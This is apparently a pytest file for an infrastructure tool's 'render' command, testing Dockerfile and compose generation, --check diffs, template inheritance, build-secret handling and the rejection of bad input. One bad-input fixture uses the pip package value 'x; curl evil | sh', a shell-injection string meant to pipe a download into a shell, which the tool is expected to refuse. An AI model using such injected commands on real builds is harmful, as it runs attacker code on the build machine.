"""`infra render`: writing, re-rendering, --check, --out, image templates, and bad input."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from tests.unit.test_config_errors import both, set_key, write

OUT = Path(".infra/out")


def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {p.relative_to(folder).as_posix(): (p.read_bytes(), p.stat().st_mtime_ns)
            for p in folder.rglob("*") if p.is_file()}


def test_render_twice_is_byte_identical_and_rewrites_nothing(project: Path, run_cli) -> None:
    first = run_cli("render", cwd=project)
    assert first.code == 0, first.stderr
    assert "docker-cpu: .infra/out/docker-cpu: 11 written, 0 unchanged" in first.stdout
    before = snapshot(project / OUT)
    assert len(before) == 27
    second = run_cli("render", cwd=project)
    assert second.code == 0 and "docker-gpu: .infra/out/docker-gpu: 0 written, 11 unchanged" in second.stdout
    assert snapshot(project / OUT) == before
    assert not list((project / OUT).rglob("*.tmp"))


def test_check_passes_when_up_to_date_and_diffs_when_not(project: Path, run_cli) -> None:
    assert run_cli("render", "--mode", "docker-cpu", cwd=project).code == 0
    ok = run_cli("render", "--mode", "docker-cpu", "--check", cwd=project)
    assert ok.code == 0 and ok.stdout == "" and "is up to date" in ok.stderr
    dockerfile = project / OUT / "docker-cpu/dockerfiles/asr.Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace("faster-whisper==1.2.1", "faster-whisper==0.9"))
    (project / OUT / "docker-cpu/compose.yaml").unlink()
    stale = project / OUT / "docker-cpu/dockerfiles/old.Dockerfile"
    stale.write_text("FROM scratch\n")
    result = run_cli("render", "--mode", "docker-cpu", "--check", cwd=project)
    assert result.code == 1
    assert "--- .infra/out/docker-cpu/dockerfiles/asr.Dockerfile\n" in result.stdout
    assert "-      faster-whisper==0.9\n+      faster-whisper==1.2.1\n" in result.stdout
    assert "--- /dev/null\n+++ .infra/out/docker-cpu/compose.yaml (rendered)\n" in result.stdout
    assert "+++ /dev/null" in result.stdout and "-FROM scratch" in result.stdout
    assert "run `infra render`" in result.stderr
    assert "0.9" in dockerfile.read_text() and stale.exists(), "--check writes nothing"
    fixed = run_cli("render", "--mode", "docker-cpu", cwd=project)
    assert "2 written, 9 unchanged, 1 removed" in fixed.stdout
    assert not stale.exists()
    assert run_cli("render", "--mode", "docker-cpu", "--check", cwd=project).code == 0


def test_check_on_an_empty_folder_fails(project: Path, run_cli) -> None:
    result = run_cli("render", "--check", cwd=project)
    assert result.code == 1 and result.stdout.count("--- /dev/null") == 27
    assert not (project / OUT).exists()


def test_out_takes_the_files_of_one_mode(project: Path, run_cli, tmp_path: Path) -> None:
    result = run_cli("render", "-m", "native", "--out", "rendered/native", cwd=project)
    assert result.code == 0, result.stderr
    files = sorted(p.relative_to(project / "rendered/native").as_posix()
                   for p in (project / "rendered/native").rglob("*") if p.is_file())
    assert files == ["compose.yaml", "docker-bake.json", "dockerfiles/base.Dockerfile",
                     "dockerfiles/ffmpeg.Dockerfile", "stack.yaml"]
    compose = yaml.safe_load((project / "rendered/native/compose.yaml").read_text())
    assert compose["services"]["demux"]["volumes"][0]["source"] == "../../in"


def test_image_template_extends_the_shared_one(project: Path, run_cli) -> None:
    (project / "images/ffmpeg/ffmpeg.Dockerfile.j2").write_text(
        '{% extends "Dockerfile.j2" %}\n'
        "{% block healthcheck %}\n"
        "{{ super() }}\n"
        'HEALTHCHECK CMD ["ffmpeg", "-hide_banner", "-version"]\n'
        "{% endblock %}\n")
    set_key("images/ffmpeg/image.yaml", "template", "ffmpeg.Dockerfile.j2")(project)
    result = run_cli("render", "-m", "native", cwd=project)
    assert result.code == 0, result.stderr
    text = (project / OUT / "native/dockerfiles/ffmpeg.Dockerfile").read_text()
    assert text.rstrip().endswith('HEALTHCHECK CMD ["ffmpeg", "-hide_banner", "-version"]')
    assert "COPY --from=stages" in text and "apt-get" in text, "the other blocks are the shared ones"


def test_image_template_can_ask_for_the_hf_token_as_a_build_secret(project: Path, run_cli,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_should_never_be_written")
    (project / "images/ffmpeg/ffmpeg.Dockerfile.j2").write_text(
        '{% extends "Dockerfile.j2" %}\n'
        '{% import "_macros.j2" as m %}\n'
        "{% block python_packages %}\n"
        "{{ super() }}\n"
        '{{ m.run([m.secret("hf_token")]) }}test -s /run/secrets/hf_token\n'
        "{% endblock %}\n")
    set_key("images/ffmpeg/image.yaml", "template", "ffmpeg.Dockerfile.j2")(project)
    assert run_cli("render", "-m", "native", cwd=project).code == 0
    out = project / OUT / "native"
    assert "RUN --mount=type=secret,id=hf_token \\\n    test -s /run/secrets/hf_token" in \
        (out / "dockerfiles/ffmpeg.Dockerfile").read_text()
    bake = json.loads((out / "docker-bake.json").read_text())["target"]
    assert bake["ffmpeg"]["secret"] == ["id=hf_token,env=HF_TOKEN"]
    assert "secret" not in bake["base"]
    assert not any("hf_should_never_be_written" in p.read_text() for p in out.rglob("*") if p.is_file())


def image_template(text: str):
    return both(write("images/ffmpeg/custom.j2", text), set_key("images/ffmpeg/image.yaml", "template", "custom.j2"))


def drop_gpu_mode(root: Path) -> None:
    spec = yaml.safe_load((root / "infra.yaml").read_text())
    del spec["modes"]["docker-gpu"]
    (root / "infra.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    for image in (root / "images").glob("*/image.yaml"):
        data = yaml.safe_load(image.read_text())
        data["modes"] = [m for m in data.get("modes", ["native", "docker-cpu", "docker-gpu"]) if m != "docker-gpu"]
        image.write_text(yaml.safe_dump(data, sort_keys=False))


BAD = {
    "unknown mode": ((), ["--mode", "docker-tpu"],
                     "--mode 'docker-tpu' is not a mode (native, docker-cpu, docker-gpu)"),
    "mode not in the spec": ((drop_gpu_mode,), ["--mode", "docker-gpu"],
                             "infra.yaml: modes.docker-gpu: not defined (defined: native, docker-cpu)"),
    "--out with several modes": ((), ["-m", "native", "-m", "docker-cpu", "--out", "x"],
                                 "--out: needs exactly one --mode (got 2: native, docker-cpu)"),
    "template extends a missing one": ((image_template('{% extends "Dockerfile.jj2" %}\n'),), [],
                                       "images/ffmpeg/custom.j2: line 1: template 'Dockerfile.jj2' not found "
                                       "(looked in images/ffmpeg, templates)"),
    "unparsable template": ((image_template('{% extends "Dockerfile.j2" %}\n{% block code %}\nCOPY x y\n'),), [],
                            "images/ffmpeg/custom.j2: line 3: template syntax error: Unexpected end of template"),
    "undefined value": ((image_template('{% extends "Dockerfile.j2" %}\n{% block code %}\n'
                                        'COPY {{ spec.workdir }} /x\n{% endblock %}\n'),), [],
                        "images/ffmpeg/custom.j2: line 3: undefined value: DockerfileSpec has no attribute 'workdir'"),
    "template hides the shared one": ((image_template("x"),
                                       write("images/ffmpeg/Dockerfile.j2", "x"),
                                       set_key("images/ffmpeg/image.yaml", "template", "Dockerfile.j2")), [],
                                      "images/ffmpeg/image.yaml: template: 'Dockerfile.j2' would hide the shared "
                                      "template of that name"),
    "reserved image name": ((write("images/stages/image.yaml", "parent: base\n"),), ["-m", "native"],
                            "images/stages/image.yaml: the image name 'stages' is reserved"),
    "parent missing in the mode": ((write("images/extra/image.yaml", "parent: base-ml\nmodes: [native]\n"),), [],
                                   "images/extra/image.yaml: modes[0]: 'native' needs parent 'base-ml' in that mode"),
    "gpu-only image in docker-cpu": ((set_key("images/asr/image.yaml", "gpu_only", True),), [],
                                     "images/asr/image.yaml: modes[0]: a gpu_only image cannot be built in docker-cpu"),
    "package with shell metacharacters": ((set_key("images/asr/image.yaml", "pip", ["x; curl evil | sh"]),), [],
                                          "images/asr/image.yaml: pip: pip package 'x; curl evil | sh' is not allowed"),
    "dependency cycle": ((set_key("infra.yaml", "stages.demux.after", ["mux"]),), [],
                         "infra.yaml: stages.demux.after: dependency cycle"),
}


@pytest.mark.parametrize("case", list(BAD), ids=list(BAD))
def test_bad_input_exits_2_with_one_line_and_writes_nothing(case: str, project: Path, run_cli) -> None:
    steps, args, expected = BAD[case]
    for step in steps:
        step(project)
    result = run_cli("render", *args, cwd=project)
    assert result.code == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, errors
    assert expected in errors[0]
    assert not (project / ".infra").exists() and not (project / "x").exists()
